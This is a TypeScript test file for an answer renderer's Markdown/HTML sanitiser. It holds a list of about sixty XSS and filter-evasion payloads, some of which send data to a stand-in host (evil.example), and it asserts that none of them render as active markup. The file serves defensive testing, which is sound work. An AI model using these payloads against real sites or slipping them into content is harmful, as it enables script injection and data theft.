import "./dom";
import assert from "node:assert/strict";
import { test } from "node:test";
import { Answer } from "../src/answer";
import { sanitised } from "../src/markdown";
import { split } from "./samples";

/** Kinds of attack: OWASP's cheat sheet of filter evasions, the classes DOMPurify guards against, Markdown's own. */
export const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src=\"https://evil.example/leak?d=secret\">",
  "<img/src='x'/onerror=alert(1)//",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "<iframe src=\"javascript:alert(1)\"></iframe>",
  "<iframe srcdoc=\"<script>alert(1)</script>\">",
  "<object data=\"javascript:alert(1)\"></object><embed src=//evil.example>",
  "<form action=//evil.example><input name=key><button>Log in</button></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<style>*{position:fixed;inset:0;background:url(//evil.example)}</style>",
  "<div style=\"position:fixed;inset:0;z-index:9999\">cover</div>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
  "<a href=\"javascript:alert(1)\">x</a>",
  "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
  "<a id=location name=cookie href=//evil.example>clobber</a>",
  "<body onload=alert(1)><input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
  "<template><script>alert(1)</script></template><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<textarea><script>alert(1)</script></textarea><xmp><img src=x onerror=alert(1)></xmp>",
  "<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]><?php echo 1 ?>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1) \"title\")",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1)) [y](file:///etc/passwd)",
  "[x](<javascript:alert(1)> 'a\" onmouseover=\"alert(1)')",
  "[x](&#106;avascript:alert(1)) [y](\\x6Aavascript:alert(1))",
  "<javascript:alert(1)> <https://evil.example/\"onmouseover=\"alert(1)>",
  "https://evil.example/?q=\"><script>alert(1)</script>",
  "![x](https://evil.example/leak.png?d=secret)",
  "![x\"onerror=\"alert(1)](x\"onerror=\"alert(1))",
  "![](javascript:alert(1)) [![x](//evil.example/a.png)](javascript:alert(1))",
  "[ref]\n\n[ref]: javascript:alert(1) \"t\"",
  "[a]: <javascript:alert(1)>\n[a][a] ![a][a]",
  "`<script>alert(1)</script>` ``</code><img src=x onerror=alert(1)>``",
  "```html\n<script>alert(1)</script>\n</code></pre><img src=x onerror=alert(1)>\n```",
  "```\"><img/src=x/onerror=alert(1)>\ncode\n```",
  "- item\n\n  ```x\"onmouseover=\"alert(1)\n  </pre><svg onload=alert(1)>\n  ```",
  "    </code></pre><script>alert(1)</script>",
  "$<img src=x onerror=alert(1)>$ and \\(</span><script>alert(1)</script>\\)",
  "$$\n</div><iframe src=//evil.example>\n$$\n\n\\[<svg onload=alert(1)>\\]",
  "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|---|---|\n| <script>alert(1)</script> | ![x](//evil.example) |",
  "> <script>\n> alert(1)\n> </script>\n\n# <img src=x onerror=alert(1)>",
  "- [ ] <input type=checkbox onclick=alert(1)> [x](javascript:alert(1))",
  "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
  "*<b onmouseover=alert(1)>* **</strong><script>alert(1)</script>** ~~<i>~~ \\<script>",
  "<scr\u0000ipt>alert(1)</scr\u0000ipt> <\u200bscript> ＜script＞alert(1)＜/script＞",
  "<div\n\n<script>alert(1)</script>\n\n<a href='\n\n'onclick=alert(1)>",
  "<x-widget is=script onclick=alert(1)><slot onslotchange=alert(1)>",
  "<p class=\"jp-Dialog\" id=\"main\" data-jp-x=1 tabindex=1 contenteditable>text</p>",
  `${"<b>".repeat(2000)}<script>alert(1)</script>`,
  `${"[".repeat(3000)}x](javascript:alert(1))`,
];

const ELEMENTS = new Set(
  "blockquote br button code del div em h1 h2 h3 h4 h5 h6 hr li ol p pre span strong table tbody td th thead tr ul".split(" "),
);
const ATTRIBUTES = new Set(["align", "aria-label", "class", "role", "start", "tabindex", "type"]);

function assertHarmless(root: Element, payload: string): void {
  for (const element of root.querySelectorAll("*")) {
    assert.ok(ELEMENTS.has(element.localName), `<${element.localName}> from ${payload}`);
    assert.equal(element.namespaceURI, "http://www.w3.org/1999/xhtml", payload);
    for (const { name, value } of element.attributes) {
      assert.ok(ATTRIBUTES.has(name), `${name}="${value}" from ${payload}`);
      if (name === "class") assert.match(value, /^(?:(?:hs-|hljs-|language-)[\w+#.-]+|[a-z]+_| )*$/, payload);
    }
    if (element.role || element.ariaLabel) assert.match(`${element.role} ${element.ariaLabel}`, /^group (?:code|table)$/, payload);
    if (element.localName === "button") assert.equal(element.className, "hs-button hs-copy", payload);
  }
}

test("Nothing hostile becomes an element or attribute that acts: at once, in pieces, or half arrived.", () => {
  assert.ok(HOSTILE.length >= 60);
  for (const payload of HOSTILE) {
    for (const parts of [[payload], split(payload, 1, payload.length > 1000 ? 900 : 9)]) {
      const root = document.createElement("div");
      const answer = new Answer(root, (error) => assert.fail(String(error)));
      for (const part of parts) {
        answer.append(part);
        answer.draw(false);
        assertHarmless(root, payload);
      }
      while (answer.draw(true));
      assertHarmless(root, payload);
    }
  }
});

test("Hostile HTML is shown as the text it is.", () => {
  for (const payload of HOSTILE.slice(0, 30)) {
    const root = document.createElement("div");
    const answer = new Answer(root, (error) => assert.fail(String(error)));
    answer.append(payload);
    while (answer.draw(true));
    const bare = (text: string) => text.replace(/&gt;|&lt;|&#x09;|[\s<>]/g, "");
    assert.equal(bare(root.textContent!), bare(payload));
  }
});

test("Should the renderer ever pass HTML on, the sanitiser alone makes it harmless.", () => {
  for (const payload of HOSTILE) {
    const root = document.createElement("div");
    root.append(sanitised(payload));
    assertHarmless(root, payload);
  }
});
